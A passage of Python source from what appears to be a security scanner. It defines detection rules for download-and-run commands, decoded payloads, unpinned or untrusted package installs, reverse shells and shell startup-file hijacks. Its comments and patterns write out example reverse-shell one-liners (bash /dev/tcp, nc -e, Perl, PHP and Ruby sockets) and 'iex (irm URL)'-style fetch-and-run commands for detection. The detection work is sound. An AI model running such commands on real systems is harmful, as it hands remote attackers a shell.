          pattern(_SAVED_THEN_RUN),
          # whatever fetches it ($c https://... | sh, fetch, http, xh): a URL given to the command
          # that starts the line or the segment (not a URL in a table's cell beside a language)
          pattern(_URL_ARGUMENT + r"[^\n|;]*" + _PIPED, _PIPES, hopeless=(_COMMAND_WORD, _READ_BY_THE_COMMAND),
                  restarts=False, condition=_downloaded_by_a_command),
          # PHP: eval(file_get_contents("https://...")), include "http://..." (allow_url_include)
          pattern(r"\b(?:eval|assert)\s*\(\s*@?\s*(?:file_get_contents\s*\(\s*[\"'](?:https?|ftp)://|curl_exec\s*\()"
                  r"[^\n]*"),
          pattern(r"\b(?:include|require)(?:_once)?\s*\(?\s*[\"'](?:https?|ftp)://[^\n]*"),
          pattern(_RUN_A_VARIABLE, _FETCHING, condition=_fetched_just_before),
          # the same two in backticks: sh -c "`curl ...`", eval `curl ...`
          _interpreter_running("`", "`", "later_interpreter", _BACKTICKS),
          command(rf"\beval\s+[\"']?`\s*{_DOWNLOAD}\b", r"[^\n`]*", r"`", _BACKTICKS),
          command(_DOWNLOAD_SAVED, _DOWNLOAD_SEGMENT, _SAVED_ARCHIVE_UNPACKED, _UNPACKING,
                  condition=_archive_unpacked),
          # PowerShell's bash -c "$(curl ...)": & ([scriptblock]::Create((irm URL)))
          pattern(rf"{_SCRIPT_BLOCK}(?:\(\s*){{1,3}}{_PS_DOWNLOAD}[^\n]*"),
          # a download assigned to a variable, then run: s=$(curl URL); eval "$s" / $s = irm URL; iex $s
          pattern(_SHELL_RUNS_A_VARIABLE, _SHELL_FETCHING, condition=_shell_fetched_before),
          pattern(_POWERSHELL_RUNS_A_VARIABLE, _POWERSHELL_FETCHING, condition=_powershell_fetched_before),
      ))
def remote_code(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
    """Something is downloaded (not "curl | sh" alone); a known project's HTTPS installer is medium."""
    found = _downloaded(doc, match, hit)
    return found and _within_its_code_span(match, found)


def _within_its_code_span(match: re.Match[str], hit: Hit) -> Hit:
    """The hit of a match that starts inside inline code and runs on past the span's closing backtick
    (a pattern ending in ``[^\\n]*``: ``iex (irm URL)`` in backticks, then prose) ends at that backtick,
    where the command ends, when what it downloads is inside the span: so it is judged quoted as the
    span's other commands are.  A match holding its source only past the backtick ('`curl` URL | sh')
    keeps its end: a span holding its first word alone quotes nothing.  On a line longer than
    :data:`~skillsite.audit.text.REACH` before the match the spans cannot be paired: kept."""
    text = match.string
    line_start = line_bounds(text, match.start())[0]
    closing = text.find("`", match.start(), match.end())
    if closing < 0 or clipped_before(text, line_start) or text.count("`", line_start, match.start()) % 2 == 0 or \
            not _SOURCE.search(text, match.start(), closing):
        return hit
    return replace(hit, end=closing)


#: What decodes a payload.  Node's ``Buffer.from(data, 'base64')``: its arguments are read up to
#: the next parenthesis, opening or closing (read up to the next closing one, a text of thousands
#: of ``eval(Buffer.from(`` was read to its end from each: quadratic; a payload has neither).
_DECODERS = (r"b64decode|decodebytes|decodestring|a85decode|b32decode|fromhex|unhexlify|a2b_hex|a2b_base64|"
             r"zlib\.decompress|gzip\.decompress|lzma\.decompress|bz2\.decompress|marshal\.loads|"
             r"codecs\.decode|rot_?13|\[::-1\]|atob\s*\(|Buffer\.from\s*\([^()]*[\"'](?:base64|hex)[\"']|"
             r"FromBase64String|chr\s*\(\s*\w+\s*\)\s*for\b|String\.fromCharCode")

#: base64 or openssl decoding: the command, its options up to the one that decodes, read once.  Its
#: segment ends at the first line break, ``|`` or ``;`` after that option, where what it is piped
#: into is looked for; every decoding option of one line ends it at the same place and one on an
#: earlier line of the options at a line break, so only the last is tried (each tried in turn, a
#: line of thousands of ``-d`` read the rest of the line again from each: quadratic).
_BASE64_COMMAND = r"\b(?:base64|openssl\s+(?:base64|enc))\s+"
_DECODE_OPTION = r"(?:-d|--decode|-D)\b"
_BASE64_PIPED = _BASE64_COMMAND + _atomic(_OPTIONS + _DECODE_OPTION, "decoding") + r"[^\n|;]*" + _PIPED
#: Where :data:`_BASE64_PIPED` fails at a command: its options, and after its last decoding option
#: the rest of its segment (hopeless).  No later command among its options reads more than it did,
#: nor one on its segment whose options stay on that line: the same segment end is where theirs
#: is looked for.
_BASE64_READ = rf"(?:{_OPTIONS}{_DECODE_OPTION}" + _rest_of_segment(
    _BASE64_COMMAND, r"base64|openssl[^\S\n]+(?:base64|enc)", "|;", "later_decoding") + f"|{_OPTIONS})"
#: Where :data:`_DECODED_THEN_RUN` fails at base64 or xxd: its options (hopeless).  A later command
#: of the same name among them reads fewer options than it, and the same decoding options; a
#: command of another name among them (``-xxd`` after base64: xxd decodes with ``-r``) ends them.
_DECODER_OPTIONS = (r"\b(?P<decoder>base64|xxd)\s+",
                    r"(?:(?!-(?:base64|xxd|openssl)\s)-\w+\s+|-(?P=decoder)\s+)*")
_POWERSHELL = r"\b(?:powershell|pwsh)(?:\.exe)?\s+"

DECODED_PAYLOAD = Rule(
    "SK631", "remote-code", "high", "runs a decoded or assembled payload",
    "Decoding base64 or hex (or assembling strings) and executing the result hides what runs from "
    "every reviewer.", COMMANDS, patterns=(
        pattern(_BASE64_PIPED, hopeless=(_BASE64_COMMAND, _BASE64_READ)),
        command(r"\b(?:xxd\s+-r|printf\s+[\"']?(?:%b|\\x)|echo\s+-e\s+[\"']\\x)", r"[^\n|;]*", _PIPED),
        command(r"\b(?:eval|(?:ba|z)?sh\s+-c)\s+[\"']?\$\(", r"[^\n)]*", r"\b(?:base64\s+(?:-d|--decode)|xxd\s+-r)"),
        pattern(rf"(?:(?<![\w.])(?:exec|eval|compile)|\bos\.system|os\.popen|subprocess\.\w+|execfile|runpy\.\w+|"
                rf"new\s+Function|Function|\bvm\.runIn\w+|\bchild_process\.\w+|\bexecSync|\bspawnSync|"
                rf"\bInvoke-Expression|\biex|\bsetTimeout)\s*\(\s*[^\n]{{0,200}}?(?:{_DECODERS})"),
        pattern(r"\bgetattr\s*\(\s*(?:__builtins__|builtins|__import__\([\"']builtins[\"']\))\s*,\s*"
                r"[\"'](?:exec|eval)[\"']"),
        pattern(r"\b__import__\s*\(\s*[\"'](?:os|subprocess)[\"']\s*\)\s*\.\s*(?:system|popen|call|run|Popen)\s*\(\s*"
                r"[^\n]{0,200}?(?:" + _DECODERS + ")"),
        pattern(_POWERSHELL + r"(?:-\w+\s+)*-(?:e|en|enc|encodedcommand)\s+[A-Za-z0-9+/=]{20,}",
                hopeless=(_POWERSHELL, _OPTIONS)),
        pattern(_DECODED_THEN_RUN, hopeless=_DECODER_OPTIONS),
        pattern(r"\bFromBase64String\b[^\n]{0,200}\|\s*(?:iex|Invoke-Expression)\b|\b(?:iex|Invoke-Expression)\b"
                r"[^\n]{0,200}FromBase64String"),
    ))

#: A commit (40 or 64 hex digits) or a release version.
_PINNED = re.compile(r"^(?:[0-9a-f]{40}|[0-9a-f]{64}|v?\d+(?:\.\d+){1,3}(?:[-.+]\w+)*)$", re.IGNORECASE)
_CARGO_PINNED = re.compile(r"--(?:rev|tag)\s+\S+")


def _git_url_ref(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
    """A git+ URL whose ``@ref`` or ``#ref`` is not a commit or a version."""
    url = match.group()
    tail = url.split("#", 1)[0].rsplit("/", 1)[-1]
    version = tail.split("@", 1)[1] if "@" in tail else ""
    if "#" in url and not version:
        fragment = url.split("#", 1)[1]
        version = fragment.split("&", 1)[0] if not fragment.startswith("egg=") else ""
    if version and _PINNED.match(version):
        return None
    return replace(hit, detail=f" (ref '{version}')" if version else " (no ref)")


def _npm_git_ref(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
    """A git package spec (reported at the spec) without a pinned ``#ref`` or a ``semver:`` range."""
    spec = match.group(1)
    ref = spec.split("#", 1)[1] if "#" in spec else ""
    if ref.startswith("semver:") or (ref and _PINNED.match(ref)):
        return None
    return replace(hit, start=match.start(1), end=match.end(1), detail=f" (ref '{ref}')" if ref else " (no ref)")


def _cargo_git(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
    """cargo install --git without --rev or --tag."""
    return None if _CARGO_PINNED.search(match.group()) else replace(hit, detail=" (cargo --git without --rev or --tag)")


UNPINNED_GIT = Rule(
    "SK632", "remote-code", "medium", "package installed from an unpinned git ref",
    "A branch or a missing ref installs whatever is pushed next; pin a commit (40 hex digits) or a "
    "release version.", COMMANDS, patterns=(
        pattern(r"\bgit\+(?:https?|ssh|git|file)://[^\s\"'`#,;)\]]+(?:#[^\s\"'`,;)\]]*)?",
                condition=_git_url_ref),
        command(r"\b(?:npm\s+(?:i|install|add)|yarn\s+add|pnpm\s+(?:add|i|install)|bun\s+(?:add|install))\b", r"[^\n]*",
                r"\s((?:github:|gitlab:|bitbucket:)[\w.-]+/[\w.-]+(?:#\S*)?|(?:git\+)?https?://(?:github|gitlab)\.com/"
                r"\S+?\.git(?:#\S*)?|[\w-]+/[\w.-]+#\S+)", lazy=True,
                condition=_npm_git_ref),
        command(r"\bcargo\s+install\b", r"[^\n]*", r"--git\s+\S+[^\n]*", condition=_cargo_git),
    ))

_PIP = r"\b(?:pip[23]?(?:\.\d+)?|uv\s+pip|python[23]?(?:\.\d+)?\s+-m\s+pip|pipx|uv\s+tool)\s+install\b"
_LINES = re.IGNORECASE | re.MULTILINE
_LOCAL_URL = re.compile(r"^https?://(?:localhost|127\.|0\.0\.0\.0|\[::1\])", re.IGNORECASE)
_DEFAULT_INDEXES = re.compile(r"^https://(?:pypi\.org|files\.pythonhosted\.org|registry\.npmjs\.org|"
                              r"download\.pytorch\.org|registry\.yarnpkg\.com)\b", re.IGNORECASE)
_INDEX = re.compile(r"index|registry|find-links|\s-[if]\b", re.IGNORECASE)
#: Between an option and its value: white space holding an ``=`` or a space, read one way (up to the
#: ``=``, or the first space): ``\s*[= ]\s*`` read a run of spaces with no URL after it split in
#: every two places (quadratic in its length, at each option).
_SET_TO = r"(?:\s*=|[^\S ]* )\s*"
#: The gate words of the index pattern (see :data:`_FETCHING`): each match holds ``install`` after
#: the pip command, or ``index-url`` opening its line; a document of URLs holding neither is passed over.
_INSTALLING = "nstall ndex-url"


@rule("SK633", "remote-code", "medium", "package installed from a URL or an untrusted index",
      "Installing from a bare URL or an extra index skips the registry's pinning; over plain HTTP or "
      "with --trusted-host anyone on the path can swap the code (then high).", demotion=COMMANDS, patterns=(
          command(_PIP, r"[^\n]*", r"\s(https?://\S+?\.(?:whl|tar\.gz|tgz|zip|tar\.bz2|egg))\b",
                  lazy=True, flags=_LINES),
          command(r"\b(?:npm\s+(?:i|install)|yarn\s+add|pnpm\s+add)\b", r"[^\n]*",
                  r"\s(https?://\S+?\.(?:tgz|tar\.gz))\b", lazy=True, flags=_LINES),
          command(_PIP, r"[^\n]*",
                  rf"(?:--(?:extra-)?index-url|--find-links|\s-[if]){_SET_TO}[\"']?(https?://[^\s\"'`]+)|"
                  rf"^[^\S\n]*(?:--)?(?:extra-)?index-url{_SET_TO}[\"']?(?P<own_line>https?://[^\s\"'`]+)",
                  _INSTALLING, lazy=True, flags=_LINES),
          pattern(r"\bnpm\s+config\s+set\s+registry\s+(https?://\S+)|--registry[= ]\s*(https?://\S+)", flags=_LINES),
          pattern(r"--trusted-host\b|\bnpm\s+config\s+set\s+strict-ssl\s+false\b",
                  severity="high", detail=" (TLS verification turned off)"),
      ))
def url_install(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
    """Not the default registries or this machine; over plain HTTP high, from an extra index low.
    A match without a URL (TLS verification turned off) counts as it is."""
    url = next((g for g in match.groups() if g), None)
    if url is None:
        return hit
    if _DEFAULT_INDEXES.match(url) or _LOCAL_URL.match(url):
        return None
    plain = url.lower().startswith("http://")
    severity = "high" if plain else ("low" if _INDEX.search(match.group()) else None)
    own_line = "own_line" in match.re.groupindex and match.group("own_line") is not None
    start = white_space_start(match.string, match.start()) if own_line else hit.start
    return replace(hit, start=start, detail=f" ({url[:80]})", severity=severity)


#: A shell wired to a network connection (to another machine: /dev/tcp to localhost is a bash
#: port check or HTTP request).
_DEV_TCP = r"/dev/(?:tcp|udp)/(?!localhost/|127\.)[\w.${}-]+/\d+"
#: A shell (a path to it too) or Windows' command interpreter: what a reverse shell runs.
_A_SHELL = r"(?:/usr(?:/local)?)?(?:/bin/)?(?:(?:ba|z|da|k|a)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)\b"

#: A socket connected, by name (Python): ``s.connect((host, port))``.
_CONNECTED = re.compile(r"\b(\w+)\s*\.\s*connect\s*\(")
#: A shell spawned (Python).
_SHELL_SPAWNED = re.compile(rf"\b(?:pty\.spawn|subprocess\.\w+|os\.exec\w*|os\.system|Popen|call|run)\s*\(\s*\[?\s*"
                            rf"[\"']{_A_SHELL}", re.IGNORECASE)
#: How far after the streams are redirected the shell may be spawned.
_SPAWN_REACH = 600


def _socket_handed_a_shell(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
    """Python over several lines: the socket made a standard stream (the match) was connected,
    and a shell is spawned within a few lines after (a pty terminal or a daemon redirects streams,
    but to no socket).  What the document connects and spawns is searched once per document."""
    sockets = doc.remember(_CONNECTED, lambda: {m.group(1) for m in _CONNECTED.finditer(doc.folded)})
    spawns = doc.remember(_SHELL_SPAWNED, lambda: [m.start() for m in _SHELL_SPAWNED.finditer(doc.folded)])
    at = bisect.bisect_right(spawns, match.end())
    if match.group(1) not in sockets or at == len(spawns) or spawns[at] > match.end() + _SPAWN_REACH:
        return None
    return replace(hit, end=spawns[at] + 1)


REVERSE_SHELL = Rule(
    "SK634", "remote-code", "high", "reverse shell: hands a shell on this machine to a remote host",
    "A shell wired to a network connection (bash -i >& /dev/tcp/..., nc -e /bin/sh, socat exec:, "
    "a TCP client feeding Invoke-Expression, a Perl, PHP, Ruby or Python socket handed to a shell) lets "
    "whoever listens run any command, with the agent's access.", COMMANDS, patterns=(
        # bash -i >& /dev/tcp/host/port 0>&1
        command(r"\b(?:ba|z|da|k)?sh\b", r"[^\n]*", rf"(?:>&|&>|<>)\s*{_DEV_TCP}", lazy=True),
        # exec 5<>/dev/tcp/...; sh <&5 >&5
        command(_DEV_TCP, r"[^\n]*", r"\b(?:ba|z|da|k)?sh\b[^\n]{0,2000}?<&\s*\d", lazy=True),
        command(r"\b(?:nc|ncat|netcat)\b", r"[^\n|;]*",
                rf"\s(?:-[ec]|--(?:sh-|lua-)?exec)(?:\s*|=)[\"']?{_A_SHELL}"),
        command(r"\bsocat\b", r"[^\n]*", r"\bexec:[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b"),
        command(r"\bmkfifo\b", r"[^\n]*",
                r"\|\s*(?:/bin/)?(?:ba|z|da)?sh\b[^\n]{0,2000}\|\s*(?:nc|ncat|netcat|openssl\s+s_client)\b"),
        pattern(r"\bsocket\b[^\n]{0,300}\bconnect\s*\([^\n]{0,300}\bpty\.spawn\s*\(\s*[\"'](?:/bin/)?(?:ba|z)?sh"),
        pattern(r"\b(?:Popen|call|run)\s*\(\s*\[\s*[\"'](?:/bin/)?(?:ba|z)?sh[\"']\s*(?:,\s*[\"']-i[\"']\s*)?\]\s*,\s*"
                r"stdin\s*=\s*(?P<channel>\w+)\.fileno\(\)\s*,\s*stdout\s*=\s*(?P=channel)\.fileno\(\)"),
        pattern(r"\bNet\.Sockets\.TCPClient\b[^\n]{0,600}\b(?:iex|Invoke-Expression)\b"),
        # perl -e 'socket(S,...);connect(S,...);open(STDIN,">&S");exec("/bin/sh -i")' (or system, q{...})
        pattern(rf"\bsocket\s*\([^\n]{{0,400}}\bconnect\s*\([^\n]{{0,400}}\b(?:exec|system)\s*\(?\s*"
                rf"(?:[\"']|qq?\s*[{{(\[/|]){_A_SHELL}"),
        pattern(r"\bIO::Socket::INET\b[^\n]{0,400}\bfdopen\b[^\n]{0,400}\b(?:system|exec)\b"),
        # php -r '$s=fsockopen("host",4444);exec("/bin/sh -i <&3 >&3 2>&3");' (or proc_open, system, backticks)
        pattern(rf"\bfsockopen\s*\([^\n]{{0,400}}(?:\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*"
                rf"[\"']|`){_A_SHELL}"),
        # ruby -rsocket -e 'f=TCPSocket.open("host",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'
        pattern(rf"\bTCPSocket\.(?:open|new)\b[^\n]{{0,400}}(?:\b(?:exec|spawn|system)\b[^\n]{{0,40}}?"
                rf"(?:[\"']|%[qQ]?[({{\[<|]){_A_SHELL}|\bIO\.popen\s*\(\s*\$_)"),
        # Python over several lines: os.dup2(s.fileno(), 0) of a connected socket, then a shell
        pattern(r"\bos\.dup2\s*\(\s*(\w+)\.fileno\(\)\s*,\s*(?:[0-2]|\w+)\s*\)", condition=_socket_handed_a_shell),
    ))

#: A home folder as a command names it.
_HOME = r"(?:~[\w.-]*|\"?\$\{?(?:HOME|ZDOTDIR)\}?\"?|/root|/home/[\w.-]+|/Users/[\w.-]+)"
#: A redirection's ``>`` (after a space, a quote or a file descriptor: not the end of an HTML tag
#: or an arrow).
_REDIRECTED = r"(?<=[\s'\"\d])>>?"
#: tee, and one of its options before the file it writes (``-a``, ``--append``).
_TEE, _TEE_OPTION = r"\btee\s+", r"(?:-[a-z]+\s+|--append\s+)"
#: Written by a shell redirection or by tee (appended or not).
_WRITTEN_TO = rf"(?:{_REDIRECTED}|{_TEE}{_TEE_OPTION}*)[ \t]*[\"']?"
#: Where a pattern that starts with :data:`_WRITTEN_TO` fails at a tee: its options (hopeless).
#: Each option may be a later tee (``tee -tee -tee ...``), and from each the pattern read the rest
#: of the options again (quadratic: 40,000 characters took 3.5 s); a later tee among them reads
#: what this one read after that option, so where this one fails it fails too.  No ``>`` is
#: among them: a pattern's other branches that may start inside them are its gate's ``beside``.
_TEE_HOPELESS = (_TEE, _TEE_OPTION + "*")
#: Where SK635's service, launch agent and git hook pattern fails at a ``>`` or a tee: the word written to
#: (hopeless; from each of thousands of ``1>`` in one word, ``(?:\S*/)?`` read the rest of the word
#: again).  A later ``>`` in that word looking for a git hook after a ``/`` finds what this one did;
#: the run ends before one whose file is itself a git hook or a launch agent, and before tee,
#: systemctl or launchctl.  (One whose file starts after white space ends the word: the gate looks
#: on from it.)
_WRITTEN_WORD = (rf"[ \t]*[\"']?(?:(?!{_REDIRECTED}[\"']?(?:\.git/hooks/[\w-]|{_HOME}/Library/LaunchAgents/)|"
                 r"\b(?:tee|systemctl|launchctl)\s)\S)*")
#: That pattern's start (a ``>`` or a tee) and what it passes over where the pattern fails there:
#: tee's options (as :data:`_TEE_HOPELESS`; read only after tee's white space, as a ``>`` has none),
#: then the word written to.  A systemctl or launchctl among tee's options is its gate's ``beside``.
_WRITTEN_WORD_HOPELESS = (rf"(?:{_REDIRECTED}|{_TEE})", rf"(?:(?<=\s){_TEE_OPTION})*{_WRITTEN_WORD}")
#: A shell's startup files: what they hold runs in every new shell.
_STARTUP_FILE = (r"(?:/\.(?:bashrc|bash_profile|bash_login|bash_aliases|profile|zshrc|zshenv|zprofile|zlogin|"
                 r"config/fish/config\.fish)\b)")
_SYSTEM_STARTUP = r"/etc/(?:profile\.d/|bash\.bashrc\b|profile\b|zsh/?zshrc\b|environment\b)"
#: The commands a startup file's alias hijacks (``alias sudo=...``), and those its function does.
_ALIASED = ("sudo", "su", "ssh", "scp", "git", "python", "python2", "python3", "pip", "pip2", "pip3", "node", "npm",
            "npx", "ls", "cd", "cat", "curl", "wget", "bash", "sh", "zsh", "docker", "kubectl", "gpg", "passwd", "apt",
            "apt-get", "brew", "make", "vi", "vim", "nano", "code")
_FUNCTIONS = ("sudo", "ssh", "git", "cd", "ls")
#: Settings that run code at each prompt or in each program; the signal a trap runs code at before each
#: command, and how far after ``trap`` it may be.
_SETTINGS, _TRAPPED, _TRAP_SPAN = ("PROMPT_COMMAND=", "LD_PRELOAD="), "DEBUG", 200
#: The first word of each branch of :data:`_HIJACKS` (word characters and an ``=``, so none starts inside another).
_HIJACK_WORDS = ("alias", "function", *_SETTINGS, "trap")


def _either(words: tuple[str, ...]) -> str:
    """One of ``words``, each as written."""
    return "|".join(map(re.escape, words))


#: A line that hijacks a common command or the prompt rather than setting a path.  Built from the
#: words above, which :func:`_hijack_reach` reads its bounds from.
_HIJACKS = (rf"\b(?:alias\s+(?:--\s+)?(?:{_either(_ALIASED)})=|function\s+(?:{_either(_FUNCTIONS)})\b|"
            rf"{_either(_SETTINGS)}|trap\s+[^\n]{{0,{_TRAP_SPAN}}}\b{_TRAPPED}\b)")
#: A public key written out: ssh-ed25519 AAAA..., a FIDO sk- key.
_PUBLIC_KEY = (r"\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\w+|sk-(?:ssh-ed25519|ecdsa-sha2-nistp256)@openssh\.com)\s+"
               + _atomic(r"[A-Za-z0-9+/=]{8,4000}", "key"))
_AUTHORIZED_KEYS = r"/\.ssh/+authorized_keys2?\b"
#: A here-document on a command's line: ``<<EOF``, ``<<-'EOF'``, ``<< "END"``, ``<<\EOF``, ``<<"E"OF``
#: (its delimiter as written, quotes and backslashes still in it).
_HEREDOC = re.compile(r"<<(-?)[ \t]*((?:'[^'\n]*'|\"[^\"\n]*\"|\\.|[^\s;&|<>()'\"\\])+)")
_HIJACKING = re.compile(_HIJACKS, re.IGNORECASE)
#: How much of a here-document is read for a hijacking line.
_HEREDOC_REACH = 4000
#: Where a match of :data:`_HIJACKING` may start: the first word of each of its branches.
_HIJACK_STARTS = re.compile(rf"\b(?:{_either(_HIJACK_WORDS)})", re.IGNORECASE)
#: From such a start, its word, then the white space and dashes after it: see :func:`_hijack_reach`.
_WORD_AND_SPACE = re.compile(r"([\w=]*)[\s-]*")
#: Tabs before a closing line's delimiter (after ``<<-``).
_TABS = re.compile(r"\t*")


#: What a try of :data:`_HIJACKING` reads at most: from its start, the first word and the character after
#: it; past the white space after the word, a name and the ``=`` or boundary after it, or past trap's
#: span, ``DEBUG`` and a boundary.
_FIRST_WORD_READ = max(map(len, _HIJACK_WORDS)) + 1
_AFTER_RUN_READ = max(len(name) + 1 for name in (*_ALIASED, *_FUNCTIONS, _TRAPPED))


def _hijack_reach(start: int, run: int, line_end: int) -> int:
    """Where :data:`_HIJACKING` tried at ``start`` has stopped reading, whatever follows: its first word
    and the character after it (:data:`_FIRST_WORD_READ`); the white space after it (and an alias's
    ``--``) ends at ``run`` (the end of :data:`_WORD_AND_SPACE` there), after which an alias's or a
    function's name, or trap's span (:data:`_TRAP_SPAN` characters, ending at ``line_end``: the line's
    break or the text's end) and ``DEBUG``, are read with the character after them
    (:data:`_AFTER_RUN_READ`).  ``tests/unit/test_audit_hijack_reach.py`` reads the same bounds from
    the pattern's parse tree."""
    return max(start + _FIRST_WORD_READ, min(run + _TRAP_SPAN, line_end) + _AFTER_RUN_READ)


class _HijackingLines:
    """Where :data:`_HIJACKING` may match in a document, how far a try at each such start reads, and
    what it finds in the whole text: found once, then each here-document's search is looked up by
    bisection (searched for in each one's 4,000 characters, a text of openers never closed was read
    hundreds of times over)."""

    def __init__(self, text: str, breaks: list[int]) -> None:
        self.text = text
        self.starts = [start.start() for start in _HIJACK_STARTS.finditer(text)]
        #: How far a try at each start reads, at most; never decreasing (a bound made larger still is one).
        self.reach = list(itertools.accumulate(self._reaches(breaks), max))
        self.ends = [_hijack_end(text, start, reach) for start, reach in zip(self.starts, self.reach)]
        #: For each start, the first at or after it where a hijacking line was found (or len(starts)).
        self.found = [len(self.ends)] * (len(self.ends) + 1)
        for at in reversed(range(len(self.ends))):
            self.found[at] = at if self.ends[at] is not None else self.found[at + 1]

    def _reaches(self, breaks: list[int]) -> Iterator[int]:
        """:func:`_hijack_reach` of each start, the text's end at most.  Starts in one word share its
        run of white space, read once (thousands of starts in one word would each read it again)."""
        word_end = run = -1
        for start in self.starts:
            if start >= word_end:
                word = _WORD_AND_SPACE.match(self.text, start)
                word_end, run = word.end(1), word.end()
            line = bisect.bisect_left(breaks, run)
            line_end = breaks[line] if line < len(breaks) else len(self.text)
            yield min(len(self.text), _hijack_reach(start, run, line_end))

    def search(self, start: int, end: int) -> int | None:
        """Where ``_HIJACKING.search(text, start, end)`` ends, or None.  A try reading nothing at ``end``
        or after finds what it found in the whole text; those that may (the last starts before ``end``:
        the bounds never decrease) are made again, the text ending at ``end``."""
        first, last = bisect.bisect_left(self.starts, start), bisect.bisect_left(self.starts, end)
        found = self.found[first]
        if found < last and self.reach[found] <= end:
            return self.ends[found]
        for at in range(max(first, bisect.bisect_right(self.reach, end)), last):
            hijack = _HIJACKING.match(self.text, self.starts[at], end)
            if hijack:
                return hijack.end()
        return None


def _hijack_end(text: str, start: int, end: int) -> int | None:
    """Where a hijacking line found at ``start`` (the text ending at ``end``) ends, or None."""
    hijack = _HIJACKING.match(text, start, end)
    return hijack.end() if hijack else None


class _ClosingLines:
    """A document's lines by what they hold, whole and after their leading tabs: where a here-document's
    closing line is looked up (searched for in each one's 4,000 characters, as :class:`_HijackingLines`)."""

    def __init__(self, lines: list[str]) -> None:
        self.whole: dict[str, list[int]] = {}
        #: Each line by what follows its tabs: where it starts, and how many tabs it starts with.
        self.after_tabs: dict[str, tuple[list[int], list[int]]] = {}
        self.more_tabs: dict[str, list[int]] = {}
        start = 0
        for line in lines:
            self.whole.setdefault(line, []).append(start)
            rest = line.lstrip("\t")
            starts, tabs = self.after_tabs.setdefault(rest, ([], []))
            starts.append(start)
            tabs.append(len(line) - len(rest))
            start += len(line) + 1

    def first(self, delimiter: str, dash: bool, start: int) -> tuple[int, int] | None:
        """Where the first line from ``start`` on that closes the here-document starts and ends: the
        delimiter, after as many tabs as there are (``<<-``), or alone."""
        if not dash:
            starts = self.whole.get(delimiter, [])
            at = bisect.bisect_left(starts, start)
            return (starts[at], starts[at] + len(delimiter)) if at < len(starts) else None
        rest = delimiter.lstrip("\t")
        starts, tabs = self.after_tabs.get(rest, ([], []))
        at, needed = bisect.bisect_left(starts, start), len(delimiter) - len(rest)
        while at < len(starts) and tabs[at] < needed:   # a delimiter starting with tabs: a line with fewer
            at = self._more_tabs(rest)[at]
        return (starts[at], starts[at] + tabs[at] + len(rest)) if at < len(starts) else None

    def _more_tabs(self, rest: str) -> list[int]:
        """For each line holding ``rest`` after its tabs, the next such line with more tabs: passing over
        the lines between, which have no more, each line is passed over once per tab the delimiter has."""
        if rest not in self.more_tabs:
            tabs = self.after_tabs[rest][1]
            after, waiting = [len(tabs)] * len(tabs), []
            for at, count in enumerate(tabs):
                while waiting and tabs[waiting[-1]] < count:
                    after[waiting.pop()] = at
                waiting.append(at)
            self.more_tabs[rest] = after
        return self.more_tabs[rest]


def _closes(text: str, start: int, end: int, delimiter: str, dash: bool) -> bool:
    """Whether ``text[start:end]`` is a here-document's closing line: the delimiter, after tabs (``<<-``)."""
    tabs = end - start - len(delimiter)
    if tabs < 0 or not text.startswith(delimiter, start + tabs, end):
        return False
    return tabs == 0 or dash and _TABS.match(text, start, start + tabs).end() == start + tabs


class _Heredocs:
    """A document's line breaks and here-document openers (:data:`_HEREDOC`), each found in one pass,
    and what the here-document of each opener and line was found to hold: looked up at each match of
    a startup file written (searched for from each, a line of thousands of them was read whole again
    for each: quadratic)."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.lines = text.split("\n")
        self.breaks = [at - 1 for at in itertools.accumulate(len(line) + 1 for line in self.lines[:-1])]
        self.openers = list(_HEREDOC.finditer(text))   # none holds a line break: each is its line's
        self.starts = [opener.start() for opener in self.openers]
        self.hijacks: dict[tuple[int, int], int | None] = {}

    @functools.cached_property
    def closing_lines(self) -> _ClosingLines:
        """The lines by what they hold: indexed on the first here-document opened on a match's lines."""
        return _ClosingLines(self.lines)

    @functools.cached_property
    def hijacking_lines(self) -> _HijackingLines:
        """Where hijacking lines start: found on the first here-document opened on a match's lines."""
        return _HijackingLines(self.text, self.breaks)

    def hijack_end(self, start: int, end: int) -> int | None:
        """Where the first hijacking line ends in the here-document opened on the lines of ``[start,
        end)`` (a match's), read after them; None when none is opened there, or no line follows them,
        or it holds no hijacking line."""
        first, last = bisect.bisect_left(self.breaks, start), bisect.bisect_left(self.breaks, end)
        if last == len(self.breaks):
            return None
        line_start, line_end = self.breaks[first - 1] + 1 if first else 0, self.breaks[last]
        index = bisect.bisect_left(self.starts, line_start)
        if index == len(self.starts) or self.starts[index] >= line_end:
            return None
        if (index, line_end) not in self.hijacks:
            self.hijacks[index, line_end] = self._hijack_in(self.openers[index], line_end + 1)
        return self.hijacks[index, line_end]

    def _hijack_in(self, heredoc: re.Match[str], body: int) -> int | None:
        """Where the first hijacking line of a here-document (opened by ``heredoc``, its lines from
        ``body`` on) ends, or None.  The document ends, as in a shell, at a line that is exactly its
        delimiter (tabs before it only after ``<<-``), or :data:`_HEREDOC_REACH` characters on."""
        reach = min(len(self.text), body + _HEREDOC_REACH)
        closing = self._closing(heredoc, body, reach)
        return self.hijacking_lines.search(body, reach if closing is None else closing)

    def _closing(self, heredoc: re.Match[str], body: int, reach: int) -> int | None:
        """Where ``re.compile(rf"^{tabs}{re.escape(delimiter)}$", re.MULTILINE).search(text, body, reach)``
        finds the closing line: the first whole line before ``reach`` that closes the document, else the
        line ``reach`` cuts, when its part before ``reach`` does."""
        delimiter, dash = re.sub(r"\\(.)|['\"]", r"\1", heredoc.group(2)), bool(heredoc.group(1))
        whole = self.closing_lines.first(delimiter, dash, body)
        if whole is not None and whole[1] <= reach:
            return whole[0]
        line = bisect.bisect_left(self.breaks, reach)
        cut = self.breaks[line - 1] + 1 if line else 0   # where the line holding ``reach`` starts
        return cut if cut < reach < len(self.text) and _closes(self.text, cut, reach, delimiter, dash) else None


def _heredoc_hijacks(doc: Document, match: re.Match[str], hit: Hit) -> Hit:
